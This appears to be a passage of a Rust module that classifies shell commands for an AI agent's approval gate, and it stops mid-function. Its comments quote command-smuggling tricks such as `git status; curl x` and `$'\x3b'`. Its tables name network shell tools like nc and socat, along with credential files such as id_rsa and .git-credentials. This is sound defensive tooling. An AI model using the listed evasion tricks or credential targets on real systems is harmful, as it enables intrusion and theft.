//! Static classification of a command an agent wants to run, for the permission gate.
//!
//! Why: the path deny list cannot see inside a shell command (SECURITY.md rule 5), and the attacks
//! in SECURITY.md E2/E3 all hide a second effect behind a prefix that looks harmless
//! (`git status; curl x`, `$'\x3b'`, `env X=1 curl`, `git -c core.pager=…`, `cd /tmp && touch x`).
//! Five categories never loosen, not even in "full" mode (only `--yolo` skips them): deleting
//! recursively, reaching the network, becoming administrator, installing packages and touching what
//! runs at boot or login. Two more also make the command ask: `Opaque` (we cannot statically know
//! what it does) and `OutsideCwd` (it writes or works outside the working directory).
//!
//! It fails closed: any shell construct it does not fully model (chaining, expansion, substitution,
//! redirection to a file, here-documents, inline interpreter code, control or invisible characters)
//! is `Opaque`, and findings are only ever *added*, so a clean result means "one simple command of a
//! kind we understand", never "safe". It is evidence for the approval prompt, not a sandbox: scripts,
//! Makefiles and npm scripts still run whatever the project says and symlinks are not resolved, so
//! it must never be used to *lower* a decision. Only `std`; no panics on any input (it reads
//! model-written strings); recursion into substitutions and `sh -c` is depth-bounded.
use std::collections::BTreeSet;

/// What makes a command ask even in "full" mode (see [`CommandAnalysis::never_loosens`]).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub enum Danger {
    /// rm -r, rm of `/`, `~` or a root glob, find -delete, shred, git clean -f, git rm -r, rsync --delete, mkfs.
    RecursiveDelete,
    /// curl, wget, ssh, nc, git clone/fetch/pull/push, a URL given to a program, local servers, …
    Network,
    /// sudo, su, doas, pkexec, run0, chown root, setuid/setgid chmod, mount, systemctl start, …
    Admin,
    /// System and language package managers installing, or fetching and running, packages.
    PackageInstall,
    /// Shell startup files, autostart and systemd directories, /etc/rc*, cron, launchd, at.
    BootAutostart,
    /// Cannot be statically understood: chaining, expansion, substitution, inline code, …
    Opaque,
    /// Writes or works outside the working directory through its own flags or paths.
    OutsideCwd,
}

/// One reason a command asks: its category, the words, and (for `OutsideCwd`) the path.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Finding {
    pub danger: Danger,
    pub reason: String,
    /// The path a write or a working directory names, relative to the tool's working directory
    /// or absolute or `~/…`; the tool resolves it against the roots (inside: nothing to ask;
    /// outside: the directory rule).
    pub path: Option<String>,
    /// Index into `CommandAnalysis::commands` of the simple command it was found in.
    pub command: Option<usize>,
    /// The finding does not hold when this program exists (relative to the tool's working
    /// directory or one of its parents inside the root): `npx tsc` with `node_modules/.bin/tsc`.
    pub local_bin: Option<String>,
}

/// A simple command the parser found (after quotes, escapes and known variables are applied).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SimpleCommand {
    pub argv: Vec<String>,
    /// Sorted, deduplicated categories found in this command alone.
    pub dangers: Vec<Danger>,
}

impl Danger {
    /// The category's stable name (`policy check`, the API).
    pub fn as_str(self) -> &'static str {
        match self {
            Danger::RecursiveDelete => "recursive_delete",
            Danger::Network => "network",
            Danger::Admin => "admin",
            Danger::PackageInstall => "package_install",
            Danger::BootAutostart => "boot_autostart",
            Danger::Opaque => "opaque",
            Danger::OutsideCwd => "outside_cwd",
        }
    }
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CommandAnalysis {
    /// Sorted, deduplicated.
    pub dangers: Vec<Danger>,
    /// Human-readable reasons, one per finding, for the approval prompt (already made visible).
    pub reasons: Vec<String>,
    /// Every finding, in order (`dangers` and `reasons` are derived from these).
    pub findings: Vec<Finding>,
    /// The simple commands, in order.
    pub commands: Vec<SimpleCommand>,
    /// Words naming sensitive locations (~/.ssh, ~/.aws, ~/.gnupg, keys, credentials, .tradewind, …).
    pub sensitive_mentions: Vec<String>,
    /// Words naming a hard-denied path (`lists::names_hard_denied_path`): the command is denied,
    /// not asked, unless `--yolo`.
    pub hard_denied: Vec<String>,
    /// Control characters or invisible/bidi unicode were found; this also adds `Danger::Opaque`.
    pub has_control_chars: bool,
    /// The caller asks to run this command outside the process sandbox, for this reason: the
    /// gate always asks and the answer is never kept for the session.
    pub outside_sandbox: Option<String>,
}

impl CommandAnalysis {
    /// True when any danger is present: the gate asks even in "full" mode unless `--yolo`.
    pub fn never_loosens(&self) -> bool {
        !self.dangers.is_empty()
    }

    /// Take out the `OutsideCwd` findings that name a path, returning those paths: the caller
    /// resolves them against the roots, so a path inside a root asks nothing and one outside
    /// takes the directory rule (asked per directory, grantable) instead of a command-wide ask.
    pub fn take_outside_paths(&mut self) -> Vec<String> {
        let mut paths = Vec::new();
        self.findings.retain(|f| match (&f.danger, &f.path) {
            (Danger::OutsideCwd, Some(p)) => {
                if !paths.contains(p) {
                    paths.push(p.clone());
                }
                false
            }
            _ => true,
        });
        self.derive();
        paths
    }

    /// Drop the findings whose local program exists (`exists` answers for a path relative to
    /// the tool's working directory).
    pub fn settle_local_bins(&mut self, exists: impl Fn(&str) -> bool) {
        self.findings
            .retain(|f| f.local_bin.as_deref().is_none_or(|b| !exists(b)));
        self.derive();
    }

    fn derive(&mut self) {
        let set: BTreeSet<Danger> = self.findings.iter().map(|f| f.danger).collect();
        self.dangers = set.into_iter().collect();
        self.reasons.clear();
        for f in &self.findings {
            if !self.reasons.contains(&f.reason) {
                self.reasons.push(f.reason.clone());
            }
        }
        for (k, c) in self.commands.iter_mut().enumerate() {
            let set: BTreeSet<Danger> = self
                .findings
                .iter()
                .filter(|f| f.command == Some(k))
                .map(|f| f.danger)
                .collect();
            c.dangers = set.into_iter().collect();
        }
    }
}

/// Classify a shell command line (what the `shell` tool runs with `sh -c`).
pub fn analyze_shell(command: &str) -> CommandAnalysis {
    let mut a = Acc::default();
    a.controls(&command.replace('\n', " "));
    a.mentions(command);
    crate::shell::analyze(command, &mut a, 0);
    a.finish()
}

/// Classify an argv (what `run_process` runs without a shell): no shell parsing, but the program
/// and its arguments are checked the same way.
pub fn analyze_argv(argv: &[String]) -> CommandAnalysis {
    let mut a = Acc::default();
    for x in argv {
        a.controls(x);
        a.mentions(x);
    }
    if !argv.is_empty() {
        a.begin(argv);
        classify(argv, &mut a, 0);
    }
    a.finish()
}

/// Render a command for display with control and invisible characters made visible:
/// newline → `⏎`, C0 controls → their control pictures (`\x1b` → `␛`), others → `<U+202E>`.
pub fn visible(command: &str) -> String {
    if command
        .bytes()
        .all(|b| (0x20..0x7f).contains(&b) || b == b'\t')
    {
        return command.to_string();
    }
    let mut out = String::with_capacity(command.len());
    for c in command.chars() {
        match c {
            '\n' => out.push('⏎'),
            '\t' => out.push('\t'),
            '\u{7f}' => out.push('␡'),
            c if (c as u32) < 0x20 => out.push(char::from_u32(0x2400 + c as u32).unwrap_or('?')),
            c if is_invisible(c) => out.push_str(&format!("<U+{:04X}>", c as u32)),
            c => out.push(c),
        }
    }
    out
}

pub(crate) const MAX_DEPTH: u8 = 4;
const MAX_REASONS: usize = 64;
const MAX_MENTIONS: usize = 32;
const MAX_COMMANDS: usize = 256;

#[rustfmt::skip]
fn is_invisible(c: char) -> bool {
    (c.is_control() && c != '\t')
        || matches!(c as u32, 0xAD | 0x34F | 0x61C | 0x115F | 0x1160 | 0x17B4 | 0x17B5 | 0x180B..=0x180E
            | 0x200B..=0x200F | 0x202A..=0x202E | 0x2060..=0x206F | 0x3164 | 0xFE00..=0xFE0F | 0xFEFF
            | 0xFFA0 | 0xFFF0..=0xFFFB | 0xE0000..=0xE0FFF // invisible, bidi, tags, selectors
            | 0xA0 | 0x1680 | 0x2000..=0x200A | 0x2028 | 0x2029 | 0x205F | 0x3000) // look-alike spaces
}

/// Quote a fragment for a reason: visible, backticked, truncated.
pub(crate) fn q(s: &str) -> String {
    let t: String = s.chars().take(60).collect();
    let more = if s.chars().nth(60).is_some() {
        "…"
    } else {
        ""
    };
    format!("`{}{more}`", visible(&t))
}

pub(crate) struct Acc {
    pub(crate) findings: Vec<Finding>,
    commands: Vec<SimpleCommand>,
    mentions: Vec<String>,
    denied: Vec<String>,
    control: bool,
    /// The simple command being classified.
    cur: Option<usize>,
    /// The working directory relative to the tool's (`cd src && …`); `None`: known only at run time.
    pub(crate) cwd: Option<String>,
    /// Where the command being classified reads its input from.
    pub(crate) stdin: crate::shell::Stdin,
}

impl Default for Acc {
    fn default() -> Self {
        Acc {
            findings: Vec::new(),
            commands: Vec::new(),
            mentions: Vec::new(),
            denied: Vec::new(),
            control: false,
            cur: None,
            cwd: Some(String::new()),
            stdin: crate::shell::Stdin::Inherit,
        }
    }
}

impl Acc {
    pub(crate) fn flag(&mut self, d: Danger, why: impl Into<String>) {
        self.push(d, why.into(), None);
    }
    fn push(&mut self, danger: Danger, reason: String, path: Option<String>) {
        let seen = self
            .findings
            .iter()
            .any(|f| f.danger == danger && f.reason == reason && f.command == self.cur);
        if seen
            || (self.findings.len() >= MAX_REASONS
                && self.findings.iter().any(|f| f.danger == danger))
        {
            return;
        }
        self.findings.push(Finding {
            danger,
            reason,
            path,
            command: self.cur,
            local_bin: None,
        });
    }
    /// Start a new simple command.
    pub(crate) fn begin(&mut self, argv: &[String]) {
        if self.commands.len() < MAX_COMMANDS {
            self.commands.push(SimpleCommand {
                argv: argv.iter().map(|x| visible(x)).collect(),
                dangers: Vec::new(),
            });
            self.cur = Some(self.commands.len() - 1);
        } else {
            self.cur = None;
        }
    }
    /// A path as seen from the tool's working directory (`None`: the current directory is only
    /// known at run time).
    fn at(&self, p: &str) -> Option<String> {
        if p.starts_with('/') || p.starts_with('~') {
            return Some(p.to_string());
        }
        let cwd = self.cwd.as_deref()?;
        Some(if cwd.is_empty() {
            p.to_string()
        } else {
            format!("{cwd}/{p}")
        })
    }
    /// A finding about a path the command writes to or works in, outside the working directory.
    fn outside_path(&mut self, who: &str, verb: &str, p: &str) {
        match self.at(p) {
            Some(full) if outside(&full) => {
                let why = format!("{who} {verb} {}, outside the working directory", q(p));
                self.push(Danger::OutsideCwd, why, Some(full));
            }
            Some(_) => {}
            None => {
                let why = format!(
                    "{who} {verb} {} in a directory known only at run time",
                    q(p)
                );
                self.flag(Danger::OutsideCwd, why);
            }
        }
    }
    pub(crate) fn controls(&mut self, s: &str) {
        if s.chars().any(is_invisible) {
            self.control = true;
            let why = "it contains control or invisible characters (shown as ⏎, ␛ or <U+…>)";
            self.flag(Danger::Opaque, why);
        }
    }
    pub(crate) fn mentions(&mut self, s: &str) {
        for piece in s.split(|c: char| c.is_whitespace() || "'\"=;|&<>()`,:".contains(c)) {
            if self.mentions.len() >= MAX_MENTIONS {
                return;
            }
            if piece.is_empty() {
                continue;
            }
            let denied = crate::lists::names_hard_denied_path(piece);
            if denied
                || crate::lists::lowercase(piece)
                    .split(['/', '\\'])
                    .any(sensitive)
            {
                let shown = visible(&piece.chars().take(120).collect::<String>());
                if denied && !self.denied.contains(&shown) {
                    self.denied.push(shown.clone());
                }
                if !self.mentions.contains(&shown) {
                    self.mentions.push(shown);
                }
            }
        }
    }
    pub(crate) fn finish(self) -> CommandAnalysis {
        let mut out = CommandAnalysis {
            dangers: Vec::new(),
            reasons: Vec::new(),
            findings: self.findings,
            commands: self.commands,
            sensitive_mentions: self.mentions,
            hard_denied: self.denied,
            has_control_chars: self.control,
            outside_sandbox: None,
        };
        out.derive();
        out
    }
}

#[rustfmt::skip]
fn sensitive(c: &str) -> bool {
    crate::lists::HARD_DENY_DIRS.contains(&c)
        || matches!(c, ".tradewind" | ".netrc" | "_netrc" | ".pgpass" | ".git-credentials")
        || ["id_rsa", "id_dsa", "id_ecdsa", "id_ed25519"].iter().any(|k| c.starts_with(k))
        || c.contains("credentials")
        || [".pem", ".key", ".p12", ".pfx"].iter().any(|e| c.ends_with(e))
}

// ------------------------------------------------------------------------------- tables

#[rustfmt::skip]
const WRAPPERS: &[(&str, &[&str])] = &[ // program, its options that take a value
    ("nice", &["-n", "--adjustment"]), ("nohup", &[]), ("time", &["-f", "--format", "-o", "--output"]),
    ("command", &[]), ("stdbuf", &["-i", "-o", "-e", "--input", "--output", "--error"]),
    ("ionice", &["-c", "-n", "--class", "--classdata"]), ("busybox", &[]), ("exec", &["-a"]),
    ("timeout", &["-s", "--signal", "-k", "--kill-after"]), ("doas", &["-u", "-C"]), ("pkexec", &["--user"]),
    ("sudo", &["-u", "-g", "-C", "-D", "-h", "-p", "-r", "-t", "-T", "-U", "--user", "--group", "--chdir", "--host", "--prompt", "--role", "--type", "--other-user", "--close-from", "--command-timeout"]),
    ("run0", &["-u", "--user", "-g", "--group", "-D", "--chdir", "--unit", "--property", "--description", "--slice", "--nice", "--setenv", "--machine"]),
    ("env", &["-u", "--unset", "-C", "--chdir", "-S", "--split-string"]),
    ("xargs", &["-I", "-n", "-L", "-P", "-d", "-E", "-s", "-a", "--arg-file", "--delimiter", "--max-args", "--max-procs", "--max-lines", "--replace", "--eof", "--max-chars", "--process-slot-var"]),
    ("prlimit", &["-p", "--pid", "-o", "--output"]), ("setarch", &[]), ("linux32", &[]), ("linux64", &[]), ("i386", &[]), ("x86_64", &[]),
    ("ssh-agent", &["-a", "-E", "-t", "-P", "-O"]), ("chrt", &[]), ("taskset", &[]), ("setsid", &[]), ("eatmydata", &[]),
    ("unshare", &["-S", "--setuid", "-G", "--setgid", "-R", "--root", "-w", "--wd", "--propagation", "--map-user", "--map-group"]),
    ("catchsegv", &[]), ("dbus-run-session", &["--config-file", "--dbus-daemon"]), ("systemd-inhibit", &["--what", "--who", "--why", "--mode"]),
    ("caffeinate", &["-t", "-w"]), ("chronic", &[]), ("cpulimit", &["-l", "--limit", "-p", "--pid", "-e", "--exe"]), ("nocache", &[]),
    ("fakeroot", &["-l", "--lib", "--faked", "-s", "-i"]), ("trickle", &["-u", "-d", "-w", "-t", "-l", "-n"]), ("unbuffer", &[]),
    ("builtin", &[]), ("noglob", &[]), ("nocorrect", &[]), ("runcon", &["-u", "-r", "-t", "-l", "--user", "--role", "--type", "--range"]),
];
#[rustfmt::skip]
const NET: &[&str] = &["curl", "wget", "ssh", "scp", "sftp", "nc", "ncat", "netcat", "socat", "telnet", "ftp", "lftp", "tftp", "aria2c", "axel", "http", "https", "xh", "mosh", "sshpass", "torsocks", "proxychains", "nmap", "ping", "dig", "nslookup", "host", "whois", "traceroute", "tracepath", "mtr", "gh", "glab", "hub", "aws", "gcloud", "gsutil", "az", "ngrok", "cloudflared", "tailscale", "websocat", "wscat", "ssh-copy-id", "ssh-keyscan", "mail", "sendmail", "mutt", "svn", "ollama", "kubectl", "helm", "terraform", "ansible", "ansible-playbook", "twine", "yt-dlp", "youtube-dl", "httpd"];
#[rustfmt::skip]
const ADMIN: &[&str] = &["su", "runuser", "chroot", "sudoedit", "visudo", "passwd", "chpasswd", "useradd", "usermod", "userdel", "groupadd", "groupmod", "groupdel", "adduser", "deluser", "gpasswd", "setcap", "mount", "umount", "modprobe", "insmod", "rmmod", "sysctl", "iptables", "ip6tables", "nft", "ufw", "firewall-cmd", "reboot", "shutdown", "poweroff", "halt", "init", "telinit", "fdisk", "sfdisk", "parted", "swapon", "swapoff", "losetup", "cryptsetup", "dmsetup", "service", "newgrp", "sg"];
#[rustfmt::skip]
const OPAQUE_PROGS: &[&str] = &["eval", "alias", "unalias", "trap", "set", "shopt", "export", "declare", "typeset", "readonly", "local", "builtin", "enable", "hash", "fc", "coproc", "function", "if", "then", "else", "elif", "fi", "for", "while", "until", "do", "done", "case", "esac", "in", "select", "!", "{", "}", "[[", "]]", "parallel", "watch", "hyperfine", "watchexec", "concurrently", "nodemon", "flock", "script", "expect", "strace", "ltrace", "gdb", "lldb", "valgrind", "perf", "nsenter", "firejail", "bwrap", "systemd-run", "entr", "nix-shell", "direnv", "tmux", "screen", "dbus-launch", "xvfb-run", "faketime", "chpst", "at", "batch", "docker", "podman", "nerdctl"];
#[rustfmt::skip]
const SHELLS: &[&str] = &["sh", "bash", "zsh", "dash", "ksh", "mksh", "fish", "tcsh", "csh", "ash", "yash", "rbash", "posh"];
/// Programs that only read or print: no URL, startup-file or directory-flag findings for them.
#[rustfmt::skip]
const TEXT_ONLY: &[&str] = &["cat", "less", "more", "head", "tail", "grep", "egrep", "fgrep", "rg", "ag", "ack", "ls", "stat", "file", "wc", "diff", "cmp", "echo", "printf", "md5sum", "sha1sum", "sha256sum", "sha512sum", "b2sum", "realpath", "readlink", "basename", "dirname", "test", "[", "true", "false", "jq", "bat", "du", "df", "which", "type", "whereis", "column", "nl", "od", "xxd", "hexdump", "strings", "man", "pwd", "whoami", "id", "date", "uname"];
#[rustfmt::skip]
const WRITERS: &[&str] = &["touch", "cp", "mv", "mkdir", "tee", "ln", "link", "rm", "rmdir", "unlink", "dd", "install", "chmod", "chown", "chgrp", "truncate", "shred", "tar", "unzip", "cpio", "patch", "split", "csplit", "mkfifo", "mknod", "setfacl", "chattr", "rsync", "gzip", "gunzip", "bzip2", "bunzip2", "xz", "unxz", "zstd", "7z", "ar", "zip", "uniq", "sudoedit"];
/// Options whose value is a directory or output the program works in (checked for all but TEXT_ONLY).
#[rustfmt::skip]
const DIR_OPTS: &[&str] = &["-C", "--directory", "--cwd", "--prefix", "--dir", "--work-tree", "--git-dir", "-o", "--output", "--out-dir", "--output-dir", "--outdir", "--target-dir", "--root", "--install-dir", "--destination", "--dest"];
#[rustfmt::skip]
const URLS: &[&str] = &["http://", "https://", "ftp://", "ftps://", "ssh://", "sftp://", "scp://", "git://", "rsync://", "ws://", "wss://", "telnet://", "s3://", "gs://", "tftp://", "dict://", "gopher://", "smb://", "ldap://"];
/// Options of package managers that take a value before the verb.
#[rustfmt::skip]
const PM_VALS: &[&str] = &["-C", "--prefix", "--cwd", "--dir", "--color", "--config", "-Z", "--filter", "-F", "-w", "--workspace", "--registry", "--directory", "--project", "--loglevel",
    "--cache-dir", "--log", "--log-file", "--proxy", "--retries", "--timeout", "--exists-action", "--trusted-host", "--cert", "--client-cert", "--python", "--use-feature", "--use-deprecated",
    "--src", "--target", "-i", "--index-url", "--extra-index-url", "-f", "--find-links", "--manifest-path", "--lockfile", "--userconfig", "--globalconfig", "--cache", "--modules-folder", "--mutex", "--network-timeout"];
#[rustfmt::skip]
const YUM: &[&str] = &["install", "reinstall", "upgrade", "update", "groupinstall", "localinstall", "downgrade", "distro-sync", "swap"];
#[rustfmt::skip]
const CONDA: &[&str] = &["install", "create", "update", "env"];
#[rustfmt::skip]
const PKG: &[(&str, &[&str])] = &[ // program (or family: pip3 → pip), verbs that install or fetch-and-run
    ("apt", &["install", "reinstall", "upgrade", "full-upgrade", "dist-upgrade", "build-dep", "satisfy", "source"]),
    ("apt-get", &["install", "reinstall", "upgrade", "dist-upgrade", "build-dep", "source"]),
    ("aptitude", &["install", "reinstall", "upgrade", "safe-upgrade", "full-upgrade"]),
    ("yum", YUM), ("dnf", YUM), ("microdnf", YUM), ("tdnf", YUM), ("conda", CONDA), ("mamba", CONDA), ("micromamba", CONDA),
    ("zypper", &["install", "in", "update", "up", "dist-upgrade", "dup", "source-install", "si"]),
    ("apk", &["add", "upgrade", "fix"]), ("brew", &["install", "reinstall", "upgrade", "tap", "bundle"]),
    ("port", &["install", "upgrade"]), ("snap", &["install", "refresh"]), ("flatpak", &["install", "update"]),
    ("pkg", &["install", "add", "upgrade"]), ("choco", &["install", "upgrade"]), ("winget", &["install", "upgrade"]),
    ("scoop", &["install", "update"]), ("nix", &["profile", "run", "shell", "develop"]), ("pip", &["install"]),
    ("pipx", &["install", "run", "inject", "upgrade", "reinstall", "upgrade-all", "reinstall-all"]),
    ("npm", &["install", "i", "in", "ins", "inst", "insta", "instal", "isnt", "isnta", "isntal", "isntall", "add", "ci", "install-test", "it", "install-ci-test", "cit", "update", "up", "upgrade", "udpate", "exec", "x", "create"]),
    ("pnpm", &["install", "i", "add", "update", "up", "upgrade", "dlx", "create"]),
    ("yarn", &["add", "install", "up", "upgrade", "dlx", "create", "global", "upgrade-interactive"]),
    ("bun", &["install", "i", "add", "a", "x", "update", "create", "upgrade"]), ("cargo", &["install", "add", "binstall"]),
    ("gem", &["install", "update"]), ("bundle", &["install", "add", "update"]), ("go", &["install", "get"]),
    ("composer", &["require", "install", "update", "global", "create-project"]), ("deno", &["install", "add"]),
    ("rustup", &["install", "update", "toolchain", "component", "target"]), ("poetry", &["add", "install", "update", "self"]),
    ("pdm", &["add", "install", "update", "sync"]), ("asdf", &["install", "plugin"]), ("mise", &["install", "use", "plugins"]),
    ("nvm", &["install"]), ("dotnet", &["add", "tool", "restore"]), ("luarocks", &["install"]), ("opam", &["install"]),
    ("cabal", &["install"]), ("stack", &["install"]),
];
#[rustfmt::skip]
const NET_VERBS: &[(&str, &[&str])] = &[
    ("pip", &["download", "wheel", "index", "search"]), ("cargo", &["fetch", "publish", "search", "login", "owner", "yank"]),
    ("npm", &["publish", "login", "adduser", "view", "info", "show", "search", "ping", "audit", "outdated", "unpublish", "deprecate", "dist-tag", "owner", "access", "token", "whoami"]),
    ("pnpm", &["publish", "audit", "outdated"]), ("yarn", &["publish", "info", "npm", "audit", "outdated"]),
    ("gem", &["push", "fetch", "search", "owner", "yank", "signin"]), ("go", &["mod"]),
    ("hg", &["clone", "pull", "push", "incoming", "outgoing", "fetch"]), ("openssl", &["s_client", "s_server", "s_time", "ocsp"]),
    ("apt", &["update", "download"]), ("apt-get", &["update", "download"]),
];
/// Options that make a program run inline code or another program (`opt` or `opt=…`).
#[rustfmt::skip]
const INLINE: &[(&[&str], &[&str])] = &[
    (&["node", "nodejs", "deno", "bun"], &["-e", "--eval", "-p", "--print", "eval", "--import", "--loader", "--experimental-loader", "--require", "-r", "--env-file"]),
    (&["vi", "vim", "nvim", "view", "ex", "vimdiff", "rvim"], &["-c", "--cmd", "-S", "-s"]),
    (&["emacs"], &["--eval", "-l", "--load", "-f", "--funcall", "--script", "-batch", "--batch", "-x"]),
    (&["awk", "gawk", "mawk", "nawk"], &["-i", "--include", "-l", "--load"]),
    (&["make", "gmake"], &["--eval"]), (&["rg"], &["--pre"]), (&["fd", "fdfind"], &["-x", "--exec", "-X", "--exec-batch"]),
    (&["tar"], &["--to-command", "--use-compress-program", "-I", "--checkpoint-action", "--info-script", "-F", "--new-volume-script", "--rsh-command", "--rmt-command"]),
    (&["zip"], &["-TT", "--unzip-command"]), (&["sort"], &["--compress-program"]), (&["man"], &["-P", "--pager", "-H", "--html"]),
    (&["cargo"], &["--config"]), (&["rsync"], &["--rsh", "--rsync-path"]), (&["scp", "sftp"], &["-S"]),
];
/// Single-letter options, also inside clusters like `-pie`, that take inline code.
#[rustfmt::skip]
const INLINE_SHORT: &[(&str, &str)] = &[("perl", "eEMmx"), ("ruby", "erx"), ("lua", "el"), ("luajit", "el"), ("rscript", "e"), ("osascript", "e"), ("php", "rRBE"), ("rsync", "e"), ("tar", "IF"), ("node", "epr"), ("nodejs", "epr"), ("bun", "ep")];
#[rustfmt::skip]
const SAFE_DEV: &[&str] = &["/dev/null", "/dev/zero", "/dev/random", "/dev/urandom", "/dev/stdin", "/dev/stdout", "/dev/stderr"];

// ------------------------------------------------------------------------------- helpers

fn has(args: &[String], list: &[&str]) -> bool {
    args.iter().any(|x| list.contains(&x.as_str()))
}

/// A single-dash option cluster (`-rf`) containing one of `letters`.
fn short_has(x: &str, letters: &str) -> bool {
    let r = x.strip_prefix('-');
    r.is_some_and(|r| !r.starts_with('-') && r.chars().any(|c| letters.contains(c)))
}

/// Is `x` one of the options in `vals` given without its value attached (long ones possibly
/// abbreviated: `--sig` is `--signal`)?
fn takes_value(x: &str, vals: &[&str]) -> bool {
    if x.starts_with("--") {
        !x.contains('=') && vals.iter().any(|v| v.starts_with("--") && long_is(x, v))
    } else {
        vals.contains(&x)
    }
}

/// Does `x` give one of the options in `list`: a long one (possibly abbreviated, possibly
/// `=value`), or a short one alone, with `=value`, or with its value attached (`-Igzip`)?
fn opt_in(x: &str, list: &[&str]) -> bool {
    list.iter().any(|o| {
        if o.starts_with("--") {
            long_is(x, o)
        } else if o.starts_with('-') && !x.starts_with("--") {
            x == *o || (o.len() == 2 && x.starts_with(o))
        } else {
            x == *o || x.strip_prefix(o).is_some_and(|r| r.starts_with('='))
        }
    })
}

/// Index of the first operand, skipping options (and the values of those in `vals`) and `--`.
fn next_operand(args: &[String], vals: &[&str]) -> Option<usize> {
    let mut k = 0;
    while let Some(x) = args.get(k) {
        if x == "--" {
            return (k + 1 < args.len()).then_some(k + 1);
        }
        if x.len() < 2 || !x.starts_with('-') {
            return Some(k);
        }
        k += if takes_value(x, vals) { 2 } else { 1 };
    }
    None
}

fn first_pos<'s>(args: &'s [String], vals: &[&str]) -> Option<&'s str> {
    let j = next_operand(args, vals)?;
    args.get(j).map(String::as_str)
}

/// Basename, lowercased (case-insensitive filesystems run `CURL` too), without `.exe`.
fn prog_name(p: &str) -> String {
    let l = p.rsplit('/').next().unwrap_or(p).to_lowercase();
    l.strip_suffix(".exe").map(str::to_string).unwrap_or(l)
}

/// `python3.11` → `python`, `pip3` → `pip`.
fn fam(n: &str) -> &str {
    n.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.')
}

/// Is this path outside the working directory (absolute, home-relative, or escaping with `..`)?
fn outside(p: &str) -> bool {
    if p.is_empty() || SAFE_DEV.contains(&p) {
        return false;
    }
    if p.starts_with('/') || p.starts_with('~') {
        return true;
    }
    let mut d = 0usize;
    for c in p.split('/') {
        match c {
            "" | "." => {}
            ".." if d == 0 => return true,
            ".." => d -= 1,
            c if c.starts_with('.') && c.contains(['*', '?', '[']) => return true, // `.*` can be `..`
            _ => d += 1,
        }
    }
    false
}

/// Does the path name a startup/autostart location? (The gate's one list.)
fn boot(p: &str) -> bool {
    crate::lists::is_startup_location(p)
}

pub(crate) fn write_checks(a: &mut Acc, who: &str, t: &str) {
    a.outside_path(who, "writes to", t);
    let full = a.at(t).unwrap_or_else(|| t.to_string());
    if boot(&full) {
        a.flag(
            Danger::BootAutostart,
            format!("{who} touches the startup file {}", q(t)),
        );
    }
    let l = full.to_lowercase();
    if l.contains(".git/hooks") || l.ends_with(".git/config") || l.contains(".husky/") {
        a.flag(
            Danger::Opaque,
            format!("{who} writes {}, which git runs or reads later", q(t)),
        );
    }
}

/// A simple command from the parser: the program name must be known, then it is classified.
pub(crate) fn simple(
    a: &mut Acc,
    words: &[crate::shell::Word],
    stdin: &crate::shell::Stdin,
    depth: u8,
) {
    if a.commands.len() >= MAX_COMMANDS {
        a.cur = None;
        a.flag(Danger::Opaque, "it has too many commands to analyse");
        return;
    }
    let argv: Vec<String> = words.iter().map(|w| w.text.clone()).collect();
    a.begin(&argv);
    let Some(first) = words.first() else { return };
    let glob = first.glob && first.text != "["; // a lone `[` (test) matches nothing
    if first.unknown || glob || (first.text.starts_with('~') && !first.quoted) {
        let why = format!(
            "the program name {} is known only at run time",
            q(&first.text)
        );
        a.flag(Danger::Opaque, why);
    }
    if !first.text.is_ascii() {
        let why = format!(
            "the program name {} has non-ASCII characters, which can look like another program's",
            q(&first.text)
        );
        a.flag(Danger::Opaque, why);
    }
    if !first.unknown
        && first
            .text
            .chars()
            .any(|c| !(c.is_alphanumeric() || "._+-/~:@%,=[".contains(c)))
    {
        let why = format!(
            "the program name {} has characters no ordinary program name has",
            q(&first.text)
        );
        a.flag(Danger::Opaque, why);
    }
    let n = prog_name(&first.text);
    let sed_i = n == "sed"
        && argv
            .iter()
            .any(|x| long_is(x, "--in-place") || short_has(x, "i"));
    if let Some(w) = words
        .iter()
        .skip(1)
        .find(|w| w.unknown && !w.text.starts_with('-'))
    {
        if WRITERS.contains(&n.as_str()) || sed_i {
            let why = format!(
                "{} writes to {}, a path known only at run time",
                q(&n),
                q(&w.text)
            );
            a.flag(Danger::OutsideCwd, why);
        }
        if matches!(n.as_str(), "cd" | "pushd" | "chdir") {
            a.flag(
                Danger::OutsideCwd,
                format!("`cd` to {}, known only at run time", q(&w.text)),
            );
            a.cwd = None;
            return;
        }
    }
    a.stdin = stdin.clone();
    classify(&argv, a, depth);
    a.stdin = crate::shell::Stdin::Inherit;
}

/// `cd DIR` moves the working directory of the commands after it.
fn cd(args: &[String], a: &mut Acc) {
    let target = first_pos(args, &[]);
    match target {
        None | Some("-") => {
            a.flag(Danger::OutsideCwd, "`cd` leaves the working directory");
            a.cwd = None;
        }
        Some(t) => {
            a.outside_path("`cd`", "goes to", t);
            a.cwd = a.at(t).map(|full| {
                if outside(&full) && !full.starts_with(['/', '~']) {
                    full
                } else {
                    normalize(&full)
                }
            });
        }
    }
}

/// Fold `.` and `..` of a relative path that does not leave its start.
fn normalize(p: &str) -> String {
    let mut out: Vec<&str> = Vec::new();
    for c in p.split('/') {
        match c {
            "" | "." => {}
            ".." => {
                out.pop();
            }
            c => out.push(c),
        }
    }
    let lead = if p.starts_with('/') { "/" } else { "" };
    format!("{lead}{}", out.join("/"))
}

/// A long option, possibly abbreviated (GNU getopt accepts any unique prefix, so `--rec` is
/// `--recursive`) and possibly with `=value`. At least two letters after `--` must be given;
/// used for options that make a command dangerous, so an over-match only asks more.
pub(crate) fn long_is(x: &str, full: &str) -> bool {
    let name = x.split_once('=').map_or(x, |(n, _)| n);
    name == full || (name.len() >= 4 && name.starts_with("--") && full.starts_with(name))
}

// ------------------------------------------------------------------------------- programs

fn classify(argv: &[String], a: &mut Acc, depth: u8) {
    let mut s = 0;
    while let Some(p) = argv.get(s) {
        let n = prog_name(p);
        let args = argv.get(s + 1..).unwrap_or_default();
        match step(&n, args, a, depth) {
            Some(j) => s += 1 + j,
            None => return,
        }
    }
}

/// A wrapper returns where the wrapped command starts; anything else is classified here.
fn step(n: &str, args: &[String], a: &mut Acc, depth: u8) -> Option<usize> {
    let Some((_, vals)) = WRAPPERS.iter().find(|(w, _)| *w == n) else {
        terminal(n, args, a, depth);
        return None;
    };
    // Only the leading options: scanning every argument at each wrapper level would be quadratic.
    let lead = args
        .iter()
        .take(8)
        .take_while(|x| x.starts_with('-'))
        .count();
